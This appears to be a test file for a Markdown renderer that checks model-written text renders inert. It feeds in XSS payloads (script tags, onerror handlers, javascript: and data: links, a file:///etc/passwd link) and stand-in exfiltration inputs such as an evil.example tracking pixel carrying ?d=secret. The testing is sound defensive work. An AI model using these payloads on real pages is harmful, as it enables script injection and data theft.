// What markdown may become: rendered to static markup, which is what the browser's DOM will hold.
import fc from "fast-check";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { appendText, noBlocks } from "../markdown/blocks.ts";
import { Markdown } from "../markdown/markdown.tsx";

function render(text: string): string {
  return renderToStaticMarkup(
    createElement(Markdown, { answer: appendText(noBlocks, text), streaming: false }),
  );
}

const ALLOWED_TAGS = new Set(
  "a blockquote br button circle code del div em figcaption figure h3 h4 h5 hr li ol p path pre rect span strong svg table tbody td th thead tr ul".split(
    " ",
  ),
);
const ALLOWED_ATTRIBUTES = new Set(
  "aria-hidden aria-label class d dir focusable height href rel role rx scope start tabindex target type viewBox width x y".split(
    " ",
  ),
);

/** Every tag and attribute of a markup React wrote; text cannot hold a "<" there. */
function inventory(markup: string): { tags: Set<string>; attributes: Set<string>; hrefs: string[] } {
  const tags = new Set<string>();
  const attributes = new Set<string>();
  const hrefs: string[] = [];
  for (const [, tag = "", rest = ""] of markup.matchAll(
    /<([a-zA-Z][\w-]*)((?:\s+[\w:-]+="[^"]*")*)\s*\/?>/g,
  )) {
    tags.add(tag);
    for (const [, name = "", value = ""] of rest.matchAll(/([\w:-]+)="([^"]*)"/g)) {
      attributes.add(name);
      if (name === "href") hrefs.push(value);
    }
  }
  return { tags, attributes, hrefs };
}

function expectInert(text: string): string {
  const markup = render(text);
  const { tags, attributes, hrefs } = inventory(markup);
  expect([...tags].filter((tag) => !ALLOWED_TAGS.has(tag))).toEqual([]);
  expect([...attributes].filter((name) => !ALLOWED_ATTRIBUTES.has(name))).toEqual([]);
  for (const href of hrefs) expect(href).toMatch(/^(?:https?:\/\/|mailto:)/);
  return markup;
}

describe("Markdown", () => {
  test("renders what models write", () => {
    const markup = render(
      "# One\n\n### Three\n\nSome **bold**, *em*, ~~del~~, `code` &amp; &#8364;.\n\n1. a\n2. b\n\n3) c\n\n- [x] done\n- [ ] open\n\n> quote\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```ts\nlet a = 1 < 2;\n```\n\n---",
    );
    expect(markup).toContain("<h3>One</h3>");
    expect(markup).toContain("<h4>Three</h4>");
    expect(markup).toContain(
      '<p>Some <strong>bold</strong>, <em>em</em>, <del>del</del>, <code class="code-span">code</code> &amp; €.</p>',
    );
    expect(markup).toContain("<ol><li>a</li><li>b</li></ol>");
    expect(markup).toContain('<ol start="3">');
    expect(markup).toContain('aria-label="done"');
    expect(markup).toContain("<blockquote><p>quote</p></blockquote>");
    expect(markup).toContain('<th scope="col" class="align-left">a</th>');
    expect(markup).toContain("<code>let a = 1 &lt; 2;</code>");
    expect(markup).toContain("<hr/>");
    expect(markup).not.toContain("<input");
  });

  test.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <b onclick=alert(1)>bold</b>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<form action=https://evil.example><input type=password name=p><button formaction=//evil.example>go</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example>",
    "<p style='position:fixed' id=page name=location>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- a comment\n\n**still** -->",
  ])("shows raw HTML as the text it is: %s", (html) => {
    const markup = expectInert(html);
    expect(inventory(markup).hrefs).toEqual([]);
    expect(markup).toContain("&lt;");
  });

  test.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](\u0085javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x](blob:https://example.com/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/session)",
    "[x](#top)",
    "[x](https://good.example@evil.example/)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
  ])("makes no link of %s", (text) => {
    expect(inventory(expectInert(text)).hrefs).toEqual([]);
  });

  test("opens links elsewhere, without a referrer, beside the host they go to", () => {
    const markup = expectInert("[good.example](https://evil.example/?d=secret)");
    expect(markup).toContain(
      '<a href="https://evil.example/?d=secret" target="_blank" rel="noopener noreferrer nofollow">good.example</a>',
    );
    expect(markup).toContain("(evil.example)");
    expect(render("<https://example.com/a>")).not.toContain("link-host");
    expect(render("https://exämple.com")).toContain("(xn--exmple-cua.com)");
  });

  test("never makes an image", () => {
    const markup = expectInert(
      "![a cat](https://evil.example/pixel.png?d=secret)\n\n[![b](https://evil.example/b.png)](https://c.example)\n\n![c](data:image/svg+xml,x)",
    );
    expect(markup).not.toContain("<img");
    expect(markup).toContain("[image: a cat, evil.example]");
    expect(inventory(markup).hrefs).toEqual(["https://c.example/"]);
  });

  test("treats the info string of a fence as text", () => {
    const markup = expectInert('```"><img/src=x/onerror=alert(1)>\ncode\n```');
    expect(markup).toContain("&quot;&gt;&lt;img");
  });

  test("keeps names that mean something to a DOM or to an object as text", () => {
    const markup = expectInert("# __proto__\n\n## constructor\n\n[a](#__proto__) <a id=forms name=cookie>");
    expect(markup).toContain("<h3><strong>proto</strong></h3>");
  });

  test("names hidden characters in links and code", () => {
    expect(render("`a\u202eb`")).toContain('<span class="hidden-character">U+202E</span>');
    expect(render("```\na\u200b\u200bb\n```")).toContain("U+200B and 1 more");
    expect(render("[a*\u2066b*](https://example.com)")).toContain("U+2066");
    expect(render("`\u{e0041}`")).toContain("U+E0041");
    expect(render("`👨‍👩‍👧`")).not.toContain("hidden-character");
    expect(render("naïve 👨‍👩‍👧 prose")).not.toContain("hidden-character");
  });

  test("does not grow a page of labels out of hidden characters", () => {
    const markup = render(`\`${"a\u200b".repeat(5_000)}\``);
    expect(markup.match(/hidden-character/g)).toHaveLength(200);
  });

  test("is inert for every mixture of hostile pieces, in every state of a stream", () => {
    const pieces = fc.constantFrom(
      "<script>",
      "</script>",
      "<img src=x onerror=alert(1)>",
      "![a](https://evil.example/",
      "[b](javascript:",
      "alert(1))",
      "](",
      ")",
      "`",
      "```\n",
      "\n\n",
      "- ",
      "> ",
      "|a|b|\n|-|-|\n",
      "<!--",
      "-->",
      "&lt;",
      "**",
      "_",
      "www.evil.example",
      "https://evil.example/?",
      "a@b.example",
      "\\",
      "\u202e",
      "<https://evil.example>",
      "[r]: javascript:x\n",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 25 }), (parts) => {
        for (let count = 1; count <= parts.length; count += 1) expectInert(parts.slice(0, count).join(""));
      }),
      { numRuns: 100 },
    );
  });

  test("ends in the same markup streamed as in one shot", () => {
    const text =
      "Intro\n\n- a\n\n- b\n  ```js\n  x\n  ```\n\n| a |\n|---|\n| 1 |\n\n<div>\n\n```\nunclosed **x**\n\ny";
    const streamed = [...text].reduce(appendText, noBlocks);
    expect(renderToStaticMarkup(createElement(Markdown, { answer: streamed, streaming: false }))).toBe(
      render(text),
    );
  });

  test.each([
    ["nested quotes", ">".repeat(100_000)],
    ["nested quotes with spaces", "> ".repeat(50_000)],
    ["stars", "*".repeat(100_000)],
    ["unclosed emphasis", "**a*b ".repeat(17_000)],
    ["underscores", "a_".repeat(50_000)],
    ["nested lists", "- ".repeat(50_000)],
    ["nested numbers", "1. ".repeat(33_000)],
    [
      "lists by indentation",
      Array.from({ length: 120 }, (_, depth) => `${"  ".repeat(depth)}- a`).join("\n"),
    ],
    ["brackets", "[".repeat(100_000)],
    ["links in links", "[a](".repeat(25_000)],
    ["backticks", "`a``b".repeat(20_000)],
    ["lazy quotes", "> a\nb\n".repeat(16_000)],
    ["a table of 10,000 columns", `|${"a|".repeat(10_000)}\n|${"-|".repeat(10_000)}\n`],
    ["a table of 50,000 cells", `|a|b|c|d|e|\n|-|-|-|-|-|\n${"|1|2|3|4|5|\n".repeat(10_000)}`],
    ["spaces", " ".repeat(100_000)],
    ["blank lines in a list", `- a\n${"\n".repeat(100_000)}b`],
  ])("stays bounded for %s", (_, text) => {
    const start = performance.now();
    const markup = expectInert(text);
    // Generous for a loaded machine; without the bounds these take from seconds to a stack overflow.
    expect(performance.now() - start).toBeLessThan(2_000);
    expect(markup.length).toBeGreaterThan(0);
  });
});
